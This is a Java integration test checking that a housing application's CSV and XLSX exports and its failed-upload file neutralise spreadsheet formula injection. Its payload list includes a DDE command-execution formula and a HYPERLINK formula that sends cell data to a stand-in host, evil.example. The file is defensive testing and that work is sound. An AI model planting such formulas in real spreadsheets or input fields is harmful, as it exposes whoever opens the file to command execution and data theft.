package nl.matchpunt.trust;

import static nl.matchpunt.shared.ClockConfiguration.AMSTERDAM;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import nl.matchpunt.clients.ClientService;
import nl.matchpunt.clients.TargetGroupSummary;
import nl.matchpunt.support.IntegrationTest;
import nl.matchpunt.support.RunAs;
import nl.matchpunt.support.TestDates;
import nl.matchpunt.support.WebSession;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * Item 8 of issue 14: text that an administrator or an uploader typed reaches the spreadsheets other people open.
 * OWASP's CSV-injection payloads, set as a target-group name by the administrator, come out of the coordinator's
 * CSV and XLSX exports with a single quote in front (inert text), while negative figures stay numbers; the same
 * payloads in an upload come back inert in the file of failed lines.
 */
@IntegrationTest
class SpreadsheetFormulaIntegrationTests {

    static final List<String> PAYLOADS = List.of(
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-2+3",
            "@SUM(1+1)",
            "=HYPERLINK(\"https://evil.example/?q=\"&A1;\"Klik\")",
            "\t=1+1");

    @LocalServerPort
    int port;

    @Autowired
    RunAs runAs;

    @Autowired
    ClientService clients;

    @Autowired
    JdbcTemplate jdbc;

    @Test
    void anAdministratorsTargetGroupNameReachesTheCoordinatorsExportsAsInertText() throws Exception {
        int year = LocalDate.now(AMSTERDAM).getYear();
        String code = jdbc.queryForObject(
                "select target_group_code from quota_placement where agreed_on >= ? group by target_group_code"
                        + " order by count(*) desc limit 1",
                String.class,
                java.sql.Date.valueOf(LocalDate.of(year, 1, 1)));
        TargetGroupSummary group = clients.targetGroups().stream()
                .filter(g -> g.code().equals(code))
                .findFirst()
                .orElseThrow();
        WebSession coordinator = WebSession.loggedIn(port, "coordinator");
        int cells = 0;
        try {
            for (String typed : PAYLOADS) {
                rename(group, typed);
                // the name is stored stripped (a leading tab goes); the export must hold what is stored, inert
                String payload = clients.targetGroup(group.id()).name();
                String csv = new String(
                        coordinator
                                .download("/dashboard/export/groups.csv?year=" + year)
                                .body(),
                        StandardCharsets.UTF_8);
                String quoted = "\"'" + payload.replace("\"", "\"\"") + "\"";
                assertThat(csv).as("csv of " + payload).contains("\r\n" + quoted + ";");
                assertThat(csv).as("csv of " + payload).doesNotContain("\r\n" + payload);
                cells++;

                List<String> texts = texts(coordinator
                        .download("/dashboard/export/groups.xlsx?year=" + year)
                        .body());
                assertThat(texts).as("xlsx of " + payload).contains("'" + payload);
                assertThat(texts).as("xlsx of " + payload).doesNotContain(payload);
                cells++;
            }
            // a negative figure (behind the pro-rata line, when ahead of it) stays a number in both formats
            String csv = new String(
                    coordinator
                            .download("/dashboard/export/groups.csv?year=" + year)
                            .body(),
                    StandardCharsets.UTF_8);
            assertThat(csv).doesNotContain(";'-");
            List<String> texts = texts(coordinator
                    .download("/dashboard/export/groups.xlsx?year=" + year)
                    .body());
            assertThat(texts).noneMatch(text -> text.matches("'-?\\d*"));
        } finally {
            rename(group, group.name());
        }
        System.out.println("TRUST spreadsheet formulas: " + PAYLOADS.size() + " payloads, " + cells
                + " export cells (CSV and XLSX) inert");
    }

    @Test
    void payloadsInAnUploadComeBackInertInTheFileOfFailedLines() {
        WebSession ymere = WebSession.loggedIn(port, "ymere");
        String header = "referentie;straat;huisnummer;toevoeging;postcode;plaats;stadsdeel;gebied;"
                + "huur;kamers;woonoppervlakte;verdieping;lift;rolstoeltoegankelijk;portiek;beschikbaar_per;toelichting";
        StringBuilder file = new StringBuilder(header).append("\r\n");
        String batch = "F" + UUID.randomUUID().toString().substring(0, 6);
        int n = 0;
        for (String payload : PAYLOADS) {
            // a rent of 0 makes the line fail; the street and the note carry the payload
            file.append(batch)
                    .append('-')
                    .append(n++)
                    .append(";\"")
                    .append(payload.replace("\"", "\"\""))
                    .append("\";12;;1055 DT;Amsterdam;West;Bos en Lommer;0;2;54;2;nee;nee;ja;" + TestDates.soonDutch()
                            + ";\"")
                    .append(payload.replace("\"", "\"\""))
                    .append("\"\r\n");
        }
        HttpResponse<String> preview = ymere.upload(
                "/dwellings/import", "formules.csv", file.toString().getBytes(StandardCharsets.UTF_8));
        assertThat(preview.statusCode()).isEqualTo(200);

        String failed = ymere.get("/dwellings/import/failed.csv").body();
        for (String payload : PAYLOADS) {
            String quoted = "\"'" + payload.replace("\"", "\"\"") + "\"";
            assertThat(failed).as(payload).contains(";" + quoted + ";12;");
            assertThat(failed).as(payload).doesNotContain(";" + payload + ";");
        }
    }

    private void rename(TargetGroupSummary group, String name) {
        runAs.run(
                "admin",
                () -> clients.changeTargetGroup(
                        group.id(), name, group.countsTowardsQuota(), group.withSupport(), group.active()));
    }

    /** The text cells of the workbook's first sheet (read with Apache POI); numeric cells are left out. */
    private static List<String> texts(byte[] xlsx) throws Exception {
        List<String> texts = new ArrayList<>();
        try (Workbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            for (Row row : workbook.getSheetAt(0)) {
                for (Cell cell : row) {
                    if (cell.getCellType() == CellType.STRING) {
                        texts.add(cell.getStringCellValue());
                    }
                }
            }
        }
        return texts;
    }
}
